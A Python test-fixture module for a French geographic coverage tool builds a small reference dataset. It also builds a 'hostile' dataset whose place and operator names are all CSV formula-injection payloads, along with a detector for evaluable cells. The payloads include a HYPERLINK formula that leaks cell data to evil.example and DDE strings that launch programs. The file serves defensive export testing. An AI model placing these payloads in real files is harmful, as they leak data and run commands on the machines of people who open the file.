"""Data for the export tests: the tiny reference made complete, and a hostile dataset.

``tiny_reference()`` (tests/tiny_reference.py) has what coverage needs; the
exports also read department → region, EPCI → departments and generalised
outlines, added here. The hostile dataset names communes, departments, EPCIs,
OPSN, territories and the data source with formula payloads, as a file
uploaded by anyone could.
"""

from __future__ import annotations

import re

import pandas as pd

from geo.core.analysis import Inputs, analyse
from geo.core.coverage import CoverageOptions
from geo.core.memberships import empty_memberships
from geo.core.paths import ROOT
from geo.core.reference import ReferenceData
from tests.tiny_reference import memberships, perimeters, tiny_reference

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
    "=1+1",
    "-cmd|' /C notepad'!A1",
    "@HYPERLINK(A1)",
    "+33 6 12 34 56 78+1",
)
"""Cell contents a spreadsheet would evaluate (OWASP CSV injection examples)."""

_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


def evaluable(cell: object) -> bool:
    """True if a spreadsheet opening this cell as it is could run it as a formula."""
    if not isinstance(cell, str) or not cell:
        return False
    text = cell.lstrip(" ")
    if text[:1] in ("\t", "\r", "\n"):
        text = text.lstrip()
    return text[:1] in ("=", "+", "-", "@") and not _NUMBER.match(text)


def complete(reference: ReferenceData) -> ReferenceData:
    """The tiny reference with the columns the exports read (regions, outlines, EPCI)."""
    communes = reference.communes
    region_of = communes.drop_duplicates("departement").set_index("departement")["region"]
    departements = reference.departements.copy()
    departements["region"] = departements["code"].map(region_of)
    departements["nom"] = "Département " + departements["code"]
    departements["geometry_generalisee"] = departements.geometry
    regions = reference.regions.copy()
    regions["nom"] = "Région " + regions["code"]
    regions["geometry_generalisee"] = regions.geometry
    epci = reference.epci.copy()
    epci["departements"] = "01"
    return ReferenceData(
        communes=communes,
        departements=departements,
        regions=regions,
        epci=epci,
        former_codes=reference.former_codes,
        neighbours=reference.neighbours,
        metadata=reference.metadata,
    )


def tiny_inputs() -> Inputs:
    """A perimeter in Corsica and Paris, two member operators in department 01."""
    registry = pd.DataFrame(
        {
            "id": ["A", "B", "C", "D"],
            "nom": ["Agence A", "Bureau B", "Syndicat C", "Groupement D"],
            "sigle": ["AA", "", "SC", "GD"],
            "portee": ["departementale", "departementale", "locale", "regionale"],
        }
    )
    members = memberships([("C", "01005", ""), ("D", "", "200000001")])
    return Inputs(registry, perimeters([("A", "2A"), ("B", "75")]), members)


def hostile(options: CoverageOptions | None = None):
    """(reference, inputs, analysis) where every name is a formula payload."""
    reference = complete(tiny_reference())
    communes = reference.communes.copy()
    communes["nom"] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(communes))]
    departements = reference.departements.assign(nom=PAYLOADS[0])
    regions = reference.regions.assign(nom=PAYLOADS[1])
    epci = reference.epci.assign(nom=[PAYLOADS[2], PAYLOADS[3]])
    reference = ReferenceData(
        communes=communes,
        departements=departements,
        regions=regions,
        epci=epci,
        former_codes=reference.former_codes,
        neighbours=reference.neighbours,
        metadata=reference.metadata,
    )
    base = tiny_inputs()
    registry = base.registry.assign(
        nom=list(PAYLOADS[4:8]), sigle=["", PAYLOADS[8], "", PAYLOADS[9]]
    )
    inputs = Inputs(registry, base.perimeters, base.memberships, label=PAYLOADS[0])
    analysis = analyse(reference, inputs, options or CoverageOptions())
    zones = analysis.zones
    zones["nom"] = [PAYLOADS[k % len(PAYLOADS)] for k in range(len(zones))]
    return reference, inputs, analysis


def no_members() -> Inputs:
    base = tiny_inputs()
    return Inputs(base.registry, base.perimeters, empty_memberships())


def artifacts_dir():
    """Repo-root ``artifacts/`` (git-ignored): files written for a person to look at."""
    directory = ROOT / "artifacts"
    directory.mkdir(exist_ok=True)
    return directory
